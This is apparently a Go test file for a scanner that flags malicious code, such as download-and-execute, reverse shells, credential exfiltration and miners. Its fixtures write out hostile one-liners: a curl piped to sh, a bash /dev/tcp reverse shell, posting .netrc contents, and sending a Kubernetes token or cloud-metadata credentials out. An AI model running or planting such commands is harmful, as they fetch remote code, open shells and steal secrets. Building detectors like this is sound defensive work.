package content

import (
	"bytes"
	"slices"
	"strings"
	"testing"
)

// strongOf lists the strong signs of a text.
func strongOf(text string) []Sign {
	var all []Sign
	for _, f := range Scan([]byte(text)) {
		if f.Sign.Strong() {
			all = append(all, f.Sign)
		}
	}
	return all
}

// Two strings mean something together where they are near each other: within near bytes and fewer than nearLines lines.
func TestStringsThatAreFarApartMeanNothingTogether(t *testing.T) {
	for name, tt := range map[string]struct {
		between string
		want    bool
	}{
		"on one line":           {" ", true},
		"three lines apart":     {"\na=1\nb=2\n", true},
		"at the bound of lines": {strings.Repeat("\nx=1", nearLines-1) + "\n", false},
		"many bytes apart":      {" " + strings.Repeat("x", near+1) + " ", false},
	} {
		text := "curl -s http://192.0.2.1/x" + tt.between + "| sh\n"
		if got := slices.Contains(strongOf(text), RunsDownload); got != tt.want {
			t.Errorf("%s: %v", name, got)
		}
		reversed := "x=$(eval \"$(" + tt.between + "curl -s http://192.0.2.1/x))\n"
		if got := slices.Contains(strongOf(reversed), RunsDownload); got != tt.want {
			t.Errorf("%s, the other way round: %v", name, got)
		}
	}
}

// Text before, as much as one likes, hides no pair that is near.
func TestManyHitsHideNoPair(t *testing.T) {
	for name, padding := range map[string]string{
		"downloads":          strings.Repeat("wget http://x.example/a\n\n\n\n\n", maxHits/4),
		"pipes":              strings.Repeat("cat x | sh\n\n\n\n\n\n", maxHits/4),
		"both, far apart":    strings.Repeat("wget http://x.example/a\n\n\n\n\n\ncat x | sh\n\n\n\n\n\n", maxHits/8),
		"comments":           strings.Repeat("# curl http://x.example | sh\n", 10_000),
		"one very long line": strings.Repeat("x", 100_000) + "\n",
	} {
		if got := strongOf(padding + "curl -s http://192.0.2.1/x | bash\n"); !slices.Contains(got, RunsDownload) {
			t.Errorf("behind %s: %q", name, got)
		}
	}
}

// What is no call, no command and no pipe by the bytes around it.
func TestNamesThatOnlyContainAString(t *testing.T) {
	for text, want := range map[string]bool{
		"exec(urlopen(u).read())":          true,
		"re.exec(urlopen(u).read())":       false, // a method of another object
		"$exec(urlopen(u))":                false, // a variable of PHP
		"my_exec(urlopen(u).read())":       false,
		"curl -s u | sh":                   true,
		"curl -s u | shuf":                 false,
		"curl -s u | sh-tool":              true, // a dash ends the name: shells have such options
		"CURL -s u | BASH":                 true,
		"libcurl -s u | sh":                false,
		"wget u && chmod +x a && ./a":      true,
		"wget u && chmod +xs a":            false,
		"prefetch(u); eval(x)":             false,
		"eval(atob(x))":                    true,
		"window.atob(x); document.eval(y)": false,
	} {
		if got := len(strongOf(text)) > 0; got != want {
			t.Errorf("%q has a strong sign: %v", text, got)
		}
	}
}

// Sending and reading credentials is one sign; each alone is common.
func TestCredentialsThatAreSent(t *testing.T) {
	for text, want := range map[string]bool{
		"open('/root/.aws/credentials')":                                                        false,
		"requests.post('https://h.example', data=x)":                                            false,
		"requests.post('https://h.example', data=open('/root/.netrc').read())":                  true,
		"curl -s http://169.254.169.254/latest/meta-data/iam/":                                  true,
		"curl -d @x https://webhook.site/a":                                                     true,
		"see webhook.site":                                                                      true, // a script that names it needs a look
		"# see https://webhook.site\n":                                                          false,
		"const t='trufflehog', u='https://h.example/x';":                                        true,
		"TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)":                      false,
		"curl -H \"$(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes": true,
	} {
		if got := slices.Contains(strongOf(text), Exfiltrates); got != want {
			t.Errorf("%q: %v", text, got)
		}
	}
}

// Comments and messages are blanked and keep their length, so that excerpts are of the text as it stands there.
func TestCodeKeepsOffsets(t *testing.T) {
	for text, want := range map[string]string{
		"# a\nb\n":                    "   \nb\n",
		"#!/bin/sh\nb\n":              "#!/bin/sh\nb\n",
		"// a\nb":                     "    \nb",
		"//usr/bin/curl x":            "//usr/bin/curl x",
		"/**\n * a b\n */\n":          "/**\n      \n */\n",
		"* * * * * root x\n":          "* * * * * root x\n",
		"#{x}\n":                      "#{x}\n",
		"echo 'a | sh'\n":             "echo '      '\n",
		"echo 'a' | sh\n":             "echo 'a' | sh\n",
		"echo \"$(curl x)\" b\n":      "echo \"$(curl x)\" b\n",
		"echo \"a `b`\"\n":            "echo \"  `b`\"\n",
		"a \\\n b\n":                  "a    b\n",
		"a\r# b\rc":                   "a\r   \rc",
		"<!-- a -->\n":                "          \n",
		"<!-- <?php x ?> -->\n":       "<!-- <?php x ?> -->\n",
		"printf 'a | sh' | sudo bash": "printf 'a | sh' | sudo bash",
	} {
		if got := string(code([]byte(text))); got != want || len(got) != len(text) {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
}

// A text is not changed by looking through it, and what lies behind MaxText is not looked through.
func TestTheTextIsNotChanged(t *testing.T) {
	text := []byte("# a comment\necho 'x'\ncurl -s http://192.0.2.1/x | sh\n")
	before := bytes.Clone(text)
	Scan(text)
	if !bytes.Equal(text, before) {
		t.Errorf("%q", text)
	}
	long := append(bytes.Repeat([]byte("a\n"), MaxText/2), "curl -s http://192.0.2.1/x | sh\n"...)
	if got := strongOf(string(long)); len(got) != 0 {
		t.Errorf("behind the bound: %q", got)
	}
}

// Each sign is found once, in the order of the constants.
func TestSignsAreOrderedAndUnique(t *testing.T) {
	text := strings.Repeat("curl -s http://192.0.2.1/x | sh\necho eA== | base64 -d | sh\nnohup a &\nbash -i >& "+
		"/dev/tcp/192.0.2.1/4 0>&1\n", 3)
	order := []Sign{
		RunsDownload, RunsDecoded, Installs, ReverseShell, Exfiltrates, Mines, Downloads, Connects, Decodes, Spawns,
		Hides, Persists, Harvests, Obfuscated,
	}
	last := -1
	for _, f := range Scan([]byte(text)) {
		at := slices.Index(order, f.Sign)
		if at <= last {
			t.Errorf("%s stands out of its order, or twice", f.Sign)
		}
		last = at
		if f.Excerpt == "" {
			t.Errorf("%s has no excerpt", f.Sign)
		}
	}
}

// The strings by which programs, too, are told for miners are those that hardly anything else has.
func TestStringsOfMiners(t *testing.T) {
	words := MinerWords()
	for word, want := range map[string]bool{
		"stratum+tcp://": true, "xmrig": true, "nicehash.com": false,
		"2miners.com": false,
	} {
		if slices.Contains(words, word) != want {
			t.Errorf("%s counts in programs: %v", word, !want)
		}
	}
	for _, w := range words {
		if w != strings.ToLower(w) {
			t.Errorf("%q is not in lower case", w)
		}
	}
}

// Each sign has words of its own, and only those that convict are strong.
func TestEverySignHasWords(t *testing.T) {
	seen := map[string]Sign{}
	strong := []Sign{RunsDownload, RunsDecoded, ReverseShell, Exfiltrates, Mines, Installs}
	for _, s := range append(strong, Downloads, Connects, Decodes, Spawns, Hides, Persists, Harvests, Obfuscated) {
		if other, twice := seen[s.Words()]; twice || s.Words() == string(s) && s != Downloads && s != Connects {
			t.Errorf("%s is called %q, as is %q", s, s.Words(), other)
		}
		seen[s.Words()] = s
		if s.Strong() != slices.Contains(strong, s) {
			t.Errorf("%s is strong: %v", s, s.Strong())
		}
	}
	if s := Sign("of-tomorrow"); s.Strong() || s.Words() != "of-tomorrow" {
		t.Errorf("an unknown sign is %q, strong %v", s.Words(), s.Strong())
	}
}
